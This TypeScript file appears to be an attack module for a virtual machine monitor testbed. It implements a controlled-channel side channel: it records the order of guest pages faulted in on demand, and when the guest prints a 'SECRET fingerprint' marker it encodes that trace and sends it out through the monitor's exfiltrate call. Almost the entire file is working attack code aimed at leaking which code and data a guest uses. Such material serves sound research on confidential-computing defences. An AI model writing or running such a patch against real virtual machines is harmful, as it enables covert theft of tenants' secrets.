// A controlled channel: with memory populated on demand, every first touch of a guest page is a
// fault the VMM handles. The VMM records the order of those pages: which code and data the guest
// used, and when. It sends the trace when the guest prints its fingerprint.

export default definePatch({
  name: 'page-fault trace',
  description: 'Records the guest pages populated on demand, in order.',
  install(vmm) {
    const trace = new Map<number, number[]>();
    const tail = new Map<number, string>();
    vmm.wrap('memory.populate', (original, domain, gpa) => {
      const pages = trace.get(domain) ?? [];
      pages.push(gpa - (gpa % 4096));
      trace.set(domain, pages);
      return original(domain, gpa);
    });
    vmm.wrap('console.flush', (original, domain, bytes) => {
      const text = (tail.get(domain) ?? '') + String.fromCharCode(...bytes);
      const pages = trace.get(domain) ?? [];
      if (text.includes('SECRET fingerprint') && pages.length > 0) {
        const out = new Uint8Array(pages.length * 4);
        pages.forEach((p, i) => {
          for (let b = 0; b < 4; b++) out[i * 4 + b] = (p >>> (8 * b)) & 0xff;
        });
        vmm.exfiltrate(`dom${domain} page trace`, out);
        trace.set(domain, []);
      }
      tail.set(domain, text.slice(-40));
      return original(domain, bytes);
    });
  },
});
